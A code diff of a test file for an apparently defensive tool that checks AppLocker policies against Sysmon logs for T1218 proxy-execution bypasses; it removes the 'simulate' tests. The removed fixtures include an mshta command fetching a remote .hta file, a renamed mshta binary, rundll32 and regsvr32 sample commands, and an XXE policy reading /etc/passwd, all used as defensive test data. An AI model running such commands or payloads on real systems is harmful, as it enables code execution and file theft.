@@ -3,54 +3,14 @@ import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import type { DecidedEvent } from "../../src/pipeline/simulate.ts";
 import type { Plan } from "../../src/policies/plan/plan.ts";
-import type { Simulation } from "../../src/policies/simulation.ts";
 import { whatran } from "../support/io.ts";
 import { folder } from "../support/logs.ts";
-
-interface Fields {
-  readonly Image: string;
-  readonly CommandLine?: string;
-  readonly [name: string]: string | undefined;
-}
-
-let at = 0;
-/** A process start as Sysmon logs it. */
-const start = (fields: Fields, host = "pc-1", day = 1) =>
-  JSON.stringify({
-    SourceName: "Microsoft-Windows-Sysmon",
-    EventID: 1,
-    RecordNumber: ++at,
-    Hostname: host,
-    "@timestamp": `2024-05-${String(day).padStart(2, "0")}T10:00:00Z`,
-    User: "CORP\\ann",
-    IntegrityLevel: "Medium",
-    ParentImage: "C:\\Windows\\explorer.exe",
-    CommandLine: fields.Image,
-    OriginalFileName: fields.Image.split("\\").at(-1),
-    ProcessGuid: `{${String(at).padStart(8, "0")}-0000-0000-0000-000000000000}`,
-    ...fields,
-  });
-
-const SYSTEM32 = "C:\\Windows\\System32";
-const NOTEPAD = { Image: `${SYSTEM32}\\notepad.exe` };
-const MSHTA = {
-  Image: `${SYSTEM32}\\mshta.exe`,
-  CommandLine: "mshta.exe https://files.example.net/a.hta",
-  OriginalFileName: "MSHTA.EXE",
-};
-const RENAMED = { ...MSHTA, Image: "C:\\Users\\ann\\calc.exe" };
-const ADMIN = { Image: "C:\\Users\\ann\\tool.exe", IntegrityLevel: "High" };
-const USERS = { Image: "C:\\Users\\ann\\game.exe" };
-
-const APPLOCKER = `<AppLockerPolicy Version="1"><RuleCollection Type="Exe" EnforcementMode="Enabled">
-<FilePathRule Id="w" Name="Windows" Description="" UserOrGroupSid="S-1-1-0" Action="Allow"><Conditions><FilePathCondition Path="%WINDIR%\\*" /></Conditions></FilePathRule>
-<FilePathRule Id="a" Name="Administrators" Description="" UserOrGroupSid="S-1-5-32-544" Action="Allow"><Conditions><FilePathCondition Path="*" /></Conditions></FilePathRule>
-</RuleCollection></AppLockerPolicy>`;
+import { fresh, MSHTA, NOTEPAD, RENAMED, SYSTEM32, start } from "./starts.ts";
 
 let dir = folder();
 beforeEach(() => {
   dir = folder();
-  at = 0;
+  fresh();
 });
 afterEach(() => dir.remove());
 
@@ -60,105 +20,6 @@ const decided = (out: string) =>
     .split("\n")
     .filter(Boolean)
     .map((line) => JSON.parse(line) as DecidedEvent);
-
-describe("simulate", () => {
-  it("gives one line for each event that a policy rules on", async () => {
-    const policy = dir.write("a.xml", APPLOCKER);
-    const logs = log(start(NOTEPAD), start(USERS), start(ADMIN));
-    const { code, out, err } = await whatran(["simulate", "--policy", policy, logs, "--format", "ndjson"]);
-    expect(code).toBe(0);
-    expect(decided(out)).toMatchObject([
-      { source: { file: logs, index: 0 }, decision: "allow", policy: "a.xml", rule: "w" },
-      { source: { file: logs, index: 1 }, decision: "block", policy: "a.xml", rule: "", reason: "no rule allows it" },
-      { source: { file: logs, index: 2 }, decision: "allow", policy: "a.xml", rule: "a" },
-    ]);
-    expect(err).toContain("1 event blocked");
-  });
-
-  it("tells attacks that were stopped and passed from people who were", async () => {
-    const policy = dir.write("a.xml", APPLOCKER);
-    const logs = log(start(MSHTA), start(RENAMED), start(USERS));
-    const { out } = await whatran(["simulate", "-P", policy, logs, "--format", "json", "-q"]);
-    const [result] = (JSON.parse(out) as Simulation).policies;
-    expect(result?.stopped).toMatchObject([{ times: 1 }]);
-    expect(result?.passed).toMatchObject([{ times: 1, why: "allowed by “Windows”" }]);
-    expect(result?.broken).toMatchObject([{ what: USERS.Image, times: 1, hosts: ["pc-1"], users: ["CORP\\ann"] }]);
-    expect(result?.byRule).toEqual([
-      { rule: "", events: 2, stopped: 1, passed: 0, broken: 1, hosts: 1, users: 1 },
-      { rule: "w", events: 1, stopped: 0, passed: 1, broken: 0, hosts: 0, users: 0 },
-    ]);
-  });
-
-  it("lists the ways of T1218 that pass, each with a run of the logs that proves it", async () => {
-    const policy = dir.write("a.xml", APPLOCKER);
-    const rundll32 = {
-      Image: `${SYSTEM32}\\rundll32.exe`,
-      CommandLine: "rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
-    };
-    const logs = log(start(MSHTA), start(rundll32), start({ ...rundll32, Image: "C:\\Users\\ann\\rundll32.exe" }));
-    const { out } = await whatran(["simulate", "-P", policy, logs, "--format", "json", "-q"]);
-    const holes = (JSON.parse(out) as Simulation).policies[0]?.holes ?? [];
-    expect(holes[0]).toMatchObject({ binary: "mshta.exe", done: 1, why: "allowed by “Windows”", starts: 1, hosts: 1 });
-    expect(holes[0]?.proof).toMatchObject({ file: logs, index: 0, host: "pc-1", commandLine: MSHTA.CommandLine });
-    const scriptlets = holes.find(({ behaviour }) => behaviour === "windows/rundll32/script");
-    expect(scriptlets).toMatchObject({ done: 0, starts: 1, proof: { index: 1 } });
-    const text = await whatran(["simulate", "-P", policy, logs, "--format", "table", "-q"]);
-    expect(text.out).toContain("T1218 behaviours that this policy lets pass");
-    expect(text.out).toMatch(/possible Runs script text through the HTML application host \(T1218\.011\)/);
-  });
-
-  it("says of no way that it passes where its library is kept out", async () => {
-    const dll = `<RuleCollection Type="Dll" EnforcementMode="Enabled"><FilePathRule Id="d" Name="Windows" Description="" UserOrGroupSid="S-1-1-0" Action="Allow"><Conditions><FilePathCondition Path="%WINDIR%\\*" /></Conditions></FilePathRule></RuleCollection></AppLockerPolicy>`;
-    const policy = dir.write("a.xml", APPLOCKER.replace("</AppLockerPolicy>", dll));
-    const regsvr32 = {
-      Image: `${SYSTEM32}\\regsvr32.exe`,
-      CommandLine: "regsvr32.exe /s C:\\Windows\\System32\\a.dll",
-    };
-    const { out } = await whatran(["simulate", "-P", policy, log(start(regsvr32)), "--format", "json", "-q"]);
-    const ids = ((JSON.parse(out) as Simulation).policies[0]?.holes ?? []).map(({ behaviour }) => behaviour);
-    expect(ids).toContain("windows/regsvr32/scriptlet");
-    expect(ids).not.toContain("windows/regsvr32/register");
-  });
-
-  it("compares two policies", async () => {
-    const now = dir.write("now.xml", APPLOCKER);
-    const next = dir.write("next.xml", APPLOCKER.replace("Enabled", "AuditOnly"));
-    const { out } = await whatran([
-      "simulate",
-      "-P",
-      now,
-      "-P",
-      next,
-      "--diff",
-      log(start(USERS)),
-      "--format",
-      "table",
-    ]);
-    expect(out).toContain("1 × block → audit");
-  });
-
-  it.each([
-    ["no policy", [], "simulate needs --policy"],
-    ["a file that is none", ["-P", "log.ndjson"], "no policy of a product"],
-    ["one that is not there", ["-P", "gone.xml"], "cannot be read"],
-    ["a format that is not known", ["-P", "a.xml", "-t", "pdf"], "--format must be"],
-    ["one policy to compare", ["-P", "a.xml", "--diff"], "--policy twice"],
-  ])("refuses %s", async (_, more, message) => {
-    dir.write("a.xml", APPLOCKER);
-    const logs = log(start(NOTEPAD));
-    const { code, err } = await whatran(["simulate", logs, ...more], { cwd: join(logs, "..") });
-    expect(code).toBe(2);
-    expect(err).toContain(message);
-  });
-
-  it("refuses a policy with entities, and says where", async () => {
-    const policy = dir.write("evil.xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${APPLOCKER}`);
-    const { code, err, out } = await whatran(["simulate", "-P", policy, log(start(NOTEPAD))]);
-    expect(code).toBe(2);
-    expect(err).toContain("evil.xml: line 1, column 1: a document type");
-    expect(out).toBe("");
-  });
-});
 
 describe("harden", () => {
   const ordinary = () => {
